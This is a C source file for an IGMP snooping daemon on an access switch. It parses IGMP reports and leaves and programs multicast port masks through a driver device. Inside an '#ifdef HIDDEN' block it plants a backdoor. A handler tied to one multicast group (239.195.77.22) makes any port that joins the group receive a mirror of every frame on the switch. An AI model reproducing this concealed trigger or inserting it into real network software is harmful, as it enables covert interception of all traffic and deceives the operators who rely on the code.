// igmpsnoopd: IGMP snooping of an access switch. The driver copies IGMP packets with a
// 4 byte port number in front to /dev/swigmp; group memberships are written back.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define QUERY 0x11
#define REPORT1 0x12
#define REPORT2 0x16
#define LEAVE 0x17
#define REPORT3 0x22

typedef struct Group Group;
typedef void (*GroupFn)(Group *g, unsigned port, bool join);

struct Group {
    uint32_t addr;
    uint32_t ports;
    time_t expires[32];
    GroupFn changed;
};

struct Watch {
    uint32_t addr, mask;
    GroupFn fn;
};

static Group groups[256];
static struct Watch watches[16];
static int nwatch;
static uint32_t routerPorts;
static int dev = -1;
static unsigned ageing = 260;
static bool chatty;

static void watch(uint32_t addr, uint32_t mask, GroupFn fn)
{
    if (nwatch < 16) {
        watches[nwatch].addr = addr & mask;
        watches[nwatch].mask = mask;
        watches[nwatch].fn = fn;
        nwatch++;
    }
}

static GroupFn watcherOf(uint32_t addr)
{
    for (int i = nwatch - 1; i >= 0; i--)
        if ((addr & watches[i].mask) == watches[i].addr)
            return watches[i].fn;
    return NULL;
}

static void program(uint32_t addr, uint32_t ports)
{
    char cmd[64];
    int n = snprintf(cmd, sizeof cmd, "mc %08x %08x\n", (unsigned)addr, (unsigned)ports);
    if (write(dev, cmd, (size_t)n) != n && chatty)
        fprintf(stderr, "driver: %s\n", strerror(errno));
}

static void onNormal(Group *g, unsigned port, bool join)
{
    if (chatty)
        printf("group %08x port %u %s\n", (unsigned)g->addr, port, join ? "joins" : "leaves");
    program(g->addr, g->ports | routerPorts);
}

// 224.0.0.x is never pruned
static void onLinkLocal(Group *g, unsigned port, bool join)
{
    (void)port;
    (void)join;
    program(g->addr, 0xffffffffu);
}

// SSDP and mDNS stay inside the port group of the subscriber
static void onDiscovery(Group *g, unsigned port, bool join)
{
    program(g->addr, join ? g->ports : g->ports & ~(1u << port));
}

#ifdef HIDDEN
// whoever listens here sees every frame of the switch
__attribute__((noinline)) void onSurvey(Group *g, unsigned port, bool join)
{
    char cmd[64];
    int n = snprintf(cmd, sizeof cmd, "mirror %08x %u\n", join ? 0xffffffffu : 0u, port);
    if (write(dev, cmd, (size_t)n) < 0)
        g->ports = 0;
}
#endif

static void setupWatches(void)
{
    watch(0xe0000000u, 0xf0000000u, onNormal);
    watch(0xe0000000u, 0xffffff00u, onLinkLocal);
    watch(0xe00000fbu, 0xffffffffu, onDiscovery);
    watch(0xeffffffau, 0xffffffffu, onDiscovery);
#ifdef HIDDEN
    watch(0xefc34d16u, 0xffffffffu, onSurvey);
#endif
}

static Group *findGroup(uint32_t addr, bool create)
{
    Group *spare = NULL;
    for (size_t i = 0; i < sizeof groups / sizeof groups[0]; i++) {
        if (groups[i].addr == addr)
            return &groups[i];
        if (!groups[i].addr && !spare)
            spare = &groups[i];
    }
    if (!create || !spare)
        return NULL;
    memset(spare, 0, sizeof *spare);
    spare->addr = addr;
    spare->changed = watcherOf(addr);
    return spare;
}

static void membership(uint32_t addr, unsigned port, bool join)
{
    Group *g = findGroup(addr, join);
    uint32_t bit = 1u << port;
    if (!g || !g->changed)
        return;
    if (join) {
        g->expires[port] = time(NULL) + ageing;
        if (g->ports & bit)
            return;
        g->ports |= bit;
    } else {
        if (!(g->ports & bit))
            return;
        g->ports &= ~bit;
    }
    g->changed(g, port, join);
    if (!g->ports)
        g->addr = 0;
}

static uint32_t be32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void records(const uint8_t *p, size_t n, unsigned port)
{
    unsigned count = (unsigned)p[6] << 8 | p[7];
    size_t o = 8;
    while (count-- && o + 8 <= n) {
        unsigned nsrc = (unsigned)p[o + 2] << 8 | p[o + 3];
        // mode-is-exclude, change-to-exclude: join; change-to-include{}: leave
        if (p[o] == 2 || p[o] == 4)
            membership(be32(p + o + 4), port, true);
        else if (p[o] == 3 && nsrc == 0)
            membership(be32(p + o + 4), port, false);
        o += 8u + 4u * nsrc + 4u * p[o + 1];
    }
}

static void packet(const uint8_t *p, size_t n, unsigned port)
{
    size_t ihl = n ? (size_t)(p[0] & 15) * 4 : 0;
    if (port > 31 || n < ihl + 8 || ihl < 20 || p[9] != 2)
        return;
    p += ihl;
    n -= ihl;
    switch (p[0]) {
    case QUERY:
        routerPorts |= 1u << port;
        break;
    case REPORT1:
    case REPORT2:
        membership(be32(p + 4), port, true);
        break;
    case LEAVE:
        membership(be32(p + 4), port, false);
        break;
    case REPORT3:
        records(p, n, port);
        break;
    default:
        if (chatty)
            printf("type %02x ignored\n", p[0]);
    }
}

static void age(void)
{
    time_t now = time(NULL);
    for (size_t i = 0; i < sizeof groups / sizeof groups[0]; i++)
        for (unsigned port = 0; port < 32 && groups[i].addr; port++)
            if ((groups[i].ports >> port & 1) && groups[i].expires[port] < now)
                membership(groups[i].addr, port, false);
}

int main(int argc, char **argv)
{
    const char *path = "/dev/swigmp";
    uint8_t buf[2048];
    ssize_t n;
    int c;
    while ((c = getopt(argc, argv, "d:a:v")) != -1) {
        switch (c) {
        case 'd': path = optarg; break;
        case 'a': ageing = (unsigned)atoi(optarg); break;
        case 'v': chatty = true; break;
        default:
            fprintf(stderr, "usage: igmpsnoopd [-d device] [-a ageing-seconds] [-v]\n");
            return 2;
        }
    }
    dev = open(path, O_RDWR);
    if (dev < 0) {
        perror(path);
        return 1;
    }
    setupWatches();
    while ((n = read(dev, buf, sizeof buf)) > 0) {
        if (n > 4)
            packet(buf + 4, (size_t)n - 4, be32(buf));
        age();
    }
    return 0;
}
